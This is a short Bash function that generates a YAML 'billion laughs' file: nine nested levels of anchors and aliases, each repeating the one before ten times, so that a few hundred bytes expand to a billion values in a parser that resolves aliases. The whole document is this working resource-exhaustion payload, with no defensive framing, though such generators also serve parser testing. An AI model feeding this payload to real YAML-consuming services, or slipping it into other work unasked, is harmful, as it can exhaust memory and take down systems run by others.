# Source it, then: alias_bomb >FILE
# writes a YAML "billion laughs": nine levels of aliases, each repeating the
# one before ten times (10^9 values once expanded), in a few hundred bytes.
alias_bomb() {
  local prev=a n
  echo 'a: &a ["x","x","x","x","x","x","x","x","x","x"]'
  for n in b c d e f g h i; do
    echo "$n: &$n [*$prev,*$prev,*$prev,*$prev,*$prev,*$prev,*$prev,*$prev,*$prev,*$prev]"
    prev=$n
  done
}
